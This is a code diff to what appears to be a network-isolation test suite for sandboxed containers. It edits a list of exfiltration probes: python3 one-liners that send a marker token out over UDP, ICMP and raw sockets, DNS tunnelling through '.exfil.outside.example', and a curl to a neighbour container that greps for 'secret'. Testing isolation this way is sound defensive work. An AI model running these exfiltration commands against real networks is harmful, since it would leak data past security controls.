@@ -13,8 +13,11 @@ const blindFilter = "a filter that checks nothing";
 const isInside = (arrival: Arrival): boolean =>
   "to" in arrival && [insider, metadata, cgnat].includes(arrival.to);
 
+/** Sends what nobody acknowledges some times over: a bridge loses what comes before it is up. */
+const sending = (kind: string, what: string, where: string): string =>
+  `awaitNetwork; python3 -c 'import os, socket, time; s = socket.socket(socket.AF_INET, socket.${kind}); [(s.sendto(${what}, ${where}), time.sleep(0.3)) for _ in range(3)]'`;
 const datagram = (address: string, port: number): string =>
-  `python3 -c 'import os, socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(os.environ["SIGN"].encode().rjust(60), (os.environ["${address}"], ${port}))'`;
+  sending("SOCK_DGRAM", 'os.environ["SIGN"].encode().rjust(60)', `(os.environ["${address}"], ${port})`);
 const question = `b"\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + b"".join(bytes([len(l)]) + l for l in (os.environ["SIGN"] + ".exfil.outside.example").encode().split(b".")) + b"\\0\\0\\1\\0\\1"`;
 const web = (address: string): string => `curl -s -m 8 --noproxy '*' "http://$${address}/mark-$SIGN"`;
 
@@ -28,23 +31,27 @@ const direct: readonly (readonly [string, string, WeakeningName])[] = [
   ["send a datagram to the local network", datagram("INSIDER", 9), bridge],
   [
     "smuggle a name to a name server of one's own",
-    `python3 -c 'import os, socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(${question}, (os.environ["OUTSIDE"], 53))'`,
+    sending("SOCK_DGRAM", question, '(os.environ["OUTSIDE"], 53)'),
     bridge,
   ],
   [
     "smuggle a name to it over TCP",
-    `python3 -c 'import os, socket; q = ${question}; socket.create_connection((os.environ["OUTSIDE"], 53), 2).sendall(len(q).to_bytes(2, "big") + q)'`,
+    `python3 -c 'import os, socket; q = ${question}; socket.create_connection((os.environ["OUTSIDE"], 53), 8).sendall(len(q).to_bytes(2, "big") + q)'`,
     bridge,
   ],
   ["smuggle a name out by looking it up", "getent hosts $SIGN.exfil.outside.example", ownServer],
   [
     "ping a public address, with data",
-    'python3 -c \'import os, socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP); s.sendto(b"\\x08\\0\\0\\0\\0\\1\\0\\1" + os.environ["SIGN"].encode().rjust(60), (os.environ["OUTSIDE"], 0))\'',
+    sending(
+      "SOCK_DGRAM, socket.IPPROTO_ICMP",
+      'b"\\x08\\0\\0\\0\\0\\1\\0\\1" + os.environ["SIGN"].encode().rjust(60)',
+      '(os.environ["OUTSIDE"], 0)',
+    ),
     bridge,
   ],
   [
     "send a packet made by hand (raw socket)",
-    'python3 -c \'import os, socket; s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 253); s.sendto(os.environ["SIGN"].encode().rjust(60), (os.environ["OUTSIDE"], 0))\'',
+    sending("SOCK_RAW, 253", 'os.environ["SIGN"].encode().rjust(60)', '(os.environ["OUTSIDE"], 0)'),
     rawBridge,
   ],
 ];
@@ -70,7 +77,7 @@ const hosts: Omit<Attack, "id">[] = modes.flatMap((network) =>
       ["connect to a service of the host's on each of its addresses", everyAddress, bridge],
       [
         "connect to a neighbour container",
-        `curl -s -m 2 --noproxy '*' "http://$NEIGHBOUR:8000/" | grep secret`,
+        `curl -s -m 8 --noproxy '*' "http://$NEIGHBOUR:8000/" | grep secret`,
         bridge,
       ],
       ["connect to an abstract socket of the host's", abstract, "the host's network"],
